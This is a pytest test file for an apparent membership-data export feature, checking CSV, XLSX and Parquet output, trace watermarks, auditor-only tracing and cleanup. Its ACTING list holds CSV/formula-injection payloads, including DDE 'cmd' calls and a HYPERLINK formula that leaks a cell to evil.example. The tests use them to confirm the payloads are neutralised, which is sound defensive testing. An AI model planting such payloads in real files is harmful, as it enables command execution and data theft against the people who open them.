"""What stands in the files: who took them, nothing that acts, nothing that is lost unsaid."""

import csv
import io
import os
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook
from tests.integration.export.desk import Desk

from zhike.hub import export
from zhike.hub.export import shelf, trace
from zhike.hub.export.faults import NotAnAuditor
from zhike.hub.export.kinds import FORMATS, Column, Mark, workbook
from zhike.hub.export.kinds.delimited import harmless
from zhike.hub.sheets import peek, read
from zhike.store.files import Files

MARK = Mark(trace="K7QM-3VXD-9A2P", who="李雷(E04)", at=datetime(2026, 5, 6, 7, 8, tzinfo=UTC))
LINE = "李雷(E04) · 2026-05-06 07:08 · K7QM-3VXD-9A2P"
ACTING = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＠x",
    "'=1+1",
    "+86 138",
    "-",
]
HARMLESS = ["", "a=1", "1+1", "-5", "+5", "-1234567890123456789.25", "你好", "a\n=1", "#N"]


def written(path: Path, form: str, lines: list[list[object]], mark: Mark = MARK) -> Path:
    """Write a file of one column."""
    file = path / f"out.{form}"
    writer = FORMATS[form].opened(file, [Column(head="=头")], zone="Asia/Shanghai", mark=mark)
    writer.write(lines)
    writer.close()
    return file


@pytest.mark.parametrize("text", ACTING)
def test_a_text_never_acts(tmp_path: Path, text: str) -> None:
    raw = written(tmp_path, "csv", [[text]]).read_bytes().decode("utf-8-sig")
    (_, line) = csv.reader(io.StringIO(raw, newline=""))
    book = load_workbook(written(tmp_path, "xlsx", [[text]]))

    assert line[0] == "'" + text
    assert raw.startswith('"\'=头"')
    cell = book.worksheets[0].cell(3, 1)
    assert cell.data_type == "s"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_does_not_act_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_half_a_text_does_not_act_where_lists_are_cut_at_semicolons(tmp_path: Path) -> None:
    raw = written(tmp_path, "csv", [["a;=1+1"]]).read_bytes().decode("utf-8-sig")

    assert '"a;=1+1"' in raw


async def test_our_own_import_takes_the_apostrophes_off_again(tmp_path: Path) -> None:
    kept = [one for one in ACTING if one == one.strip() and "\ufeff" not in one]
    file = written(tmp_path, "csv", [[one] for one in [*kept, "-5"]])

    sheet = (await peek(file)).sheets[0].name
    lines = [line async for piece in read(file, sheet=sheet, size=100) for line in piece.lines]
    cells = [line[1][0] for line in lines][1:]

    assert cells == [*kept, "-5"]


def test_an_xlsx_shows_who_took_it(tmp_path: Path) -> None:
    file = written(tmp_path, "xlsx", [["a"], ["b"]])
    book = load_workbook(file)
    sheet, about = book.worksheets

    assert sheet.cell(1, 1).value == LINE
    assert [sheet.cell(number, 1).value for number in (2, 3, 4)] == ["=头", "a", "b"]
    assert sheet.freeze_panes == "A3"
    assert LINE in (sheet.oddHeader.center.text or "")
    assert LINE in (sheet.oddFooter.center.text or "")
    assert sheet.print_title_rows == "$1:$2"
    assert {one.name: one.value for one in book.custom_doc_props.props} == {
        "zhike:trace": MARK.trace
    }
    assert MARK.trace in book.properties.description
    assert [about.cell(number, 2).value for number in (1, 3, 4)] == [MARK.who, MARK.trace, "2"]
    with zipfile.ZipFile(file) as packed:
        assert b"<f>" not in b"".join(packed.read(name) for name in packed.namelist())


def test_a_workspace_may_do_without_the_watermark_but_not_without_the_trace(
    tmp_path: Path,
) -> None:
    plain = Mark(trace=MARK.trace, who=MARK.who, at=MARK.at, visible=False)
    book = load_workbook(written(tmp_path, "xlsx", [["a"]], plain))

    assert [book.worksheets[0].cell(number, 1).value for number in (1, 2)] == ["=头", "a"]
    assert not book.worksheets[0].oddHeader.center.text
    assert book.custom_doc_props.props[0].value == MARK.trace


def test_a_watermark_bears_any_name(tmp_path: Path) -> None:
    odd = Mark(trace=MARK.trace, who="=A&B&D" + "名" * 300, at=MARK.at)

    book = load_workbook(written(tmp_path, "xlsx", [["a"]], odd))

    assert book.worksheets[0].cell(1, 1).data_type == "s"
    printed = str(book.worksheets[0].oddHeader.center.text)
    assert "=A&&B&&D名" in printed
    assert MARK.trace in printed


def test_a_csv_carries_the_trace_on_every_line(tmp_path: Path) -> None:
    raw = written(tmp_path, "csv", [["a"], ["b"]]).read_bytes().decode("utf-8-sig")

    head, *lines = csv.reader(io.StringIO(raw))
    assert head == ["'=头", "导出追踪号"]
    assert lines == [["a", MARK.trace], ["b", MARK.trace]]


def test_a_parquet_carries_the_trace_beside_its_columns(tmp_path: Path) -> None:
    file = written(tmp_path, "parquet", [["a"]])

    told = pl.read_parquet_metadata(file)
    assert (told["zhike:trace"], told["zhike:user"]) == (MARK.trace, MARK.who)
    assert pl.read_parquet(file).to_dicts() == [{"=头": "a"}]


def test_a_text_that_no_cell_holds_is_cut_and_says_so(tmp_path: Path) -> None:
    long = ["长" * 40_000, "😀" * 20_000, "a" * 32_767, "\x00\x01\x1f_x0041_"]
    book = load_workbook(written(tmp_path, "xlsx", [[one] for one in long]))
    cells = [book.worksheets[0].cell(number, 1).value for number in (3, 4, 5)]

    assert cells[0] == "长" * 32_766 + "…"
    assert cells[1] == "😀" * 16_383 + "…"
    assert cells[2] == long[2]
    assert book.worksheets[1].cell(5, 2).value == "2"
    assert (
        written(tmp_path, "csv", [[long[0]]]).read_bytes().decode("utf-8-sig").count("长") == 40_000
    )


def test_long_numbers_keep_their_digits(tmp_path: Path) -> None:
    book = load_workbook(written(tmp_path, "xlsx", [[12345678901234567890], [999999999999999]]))

    assert [book.worksheets[0].cell(number, 1).value for number in (3, 4)] == [
        "12345678901234567890",
        999999999999999,
    ]


def test_a_full_sheet_goes_on_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "LINES", 3)
    book = load_workbook(written(tmp_path, "xlsx", [[str(n)] for n in range(7)]))

    sheets = [[row[0].value for row in one.iter_rows()] for one in book.worksheets[:-1]]
    assert [one[:2] for one in sheets] == [[LINE, "=头"]] * 3
    assert [one[2:] for one in sheets] == [["0", "1", "2"], ["3", "4", "5"], ["6"]]
    assert workbook.LINES + 2 <= 1_048_576


def test_a_trace_id_is_read_however_it_is_typed() -> None:
    made = [trace.made() for _ in range(200)]

    assert len(set(made)) == 200
    assert all(trace.read(trace.shown(one)) == one for one in made)
    assert all(trace.read(f" {trace.shown(one).lower()} ") == one for one in made)
    assert trace.read("O1l0-aaaa") == "0110AAAA"


async def test_a_file_that_was_taken_out_comes_in_again(desk: Desk) -> None:
    for form in ("xlsx", "csv"):
        path = await desk.club.exported({"select": ["name", "phone"]}, form)
        again = await desk.club.imported(path)

        assert (again.counts.created, again.counts.skipped, again.counts.failed) == (0, 3, 0)


async def test_whoever_finds_a_file_learns_who_took_it(desk: Desk) -> None:
    auditor = await desk.joins("auditor", "auditor")
    done = await desk.run(await desk.ask({"where": 'name = "林徽因"'}, reason="拜访"))
    ready = await desk.fetch(done)
    last = ready.path.read_bytes().decode("utf-8-sig").splitlines()[1].rpartition(",")[2]

    async with desk.club.hands.db.transaction(auditor, desk.club.workspace) as tx:
        held = await desk.policy(auditor)
        found, downloads = await export.traced(tx, held, last.strip('"').lower())
    told = export.evidence(found, downloads, "zh")

    assert told["user"]["name"] == "干事"
    assert (told["count"], told["reason"], told["ip"]) == (1, "拜访", "203.0.113.9")
    assert told["query"] == {"where": 'name = "林徽因"'}
    assert [one["ip"] for one in told["downloads"]] == ["203.0.113.9"]
    assert found.trace in ready.name
    assert ready.name.startswith("会员-")


async def test_only_who_audits_traces(desk: Desk) -> None:
    done = await desk.run(await desk.ask())

    async with desk.club.hands.db.transaction(desk.clerk, desk.club.workspace) as tx:
        with pytest.raises(NotAnAuditor):
            await export.traced(tx, await desk.policy(desk.clerk), done.trace)


def test_what_a_killed_export_had_written_is_cleared(tmp_path: Path) -> None:
    files = Files(tmp_path)
    room = shelf.room(files, "main")
    made = {}
    for name in ("old", "young"):
        made[name] = room / f"{shelf.PARTIAL}{name}" / "half.csv"
        made[name].parent.mkdir()
        made[name].write_bytes(b"half")
    for one in (made["old"], made["old"].parent):
        os.utime(one, (0, 0))

    shelf.clear_unfinished(files, "main", before=datetime(2020, 1, 1, tzinfo=UTC))
    shelf.clear_unfinished(files, "nowhere", before=datetime(2020, 1, 1, tzinfo=UTC))

    assert not made["old"].parent.exists()
    assert made["young"].exists()
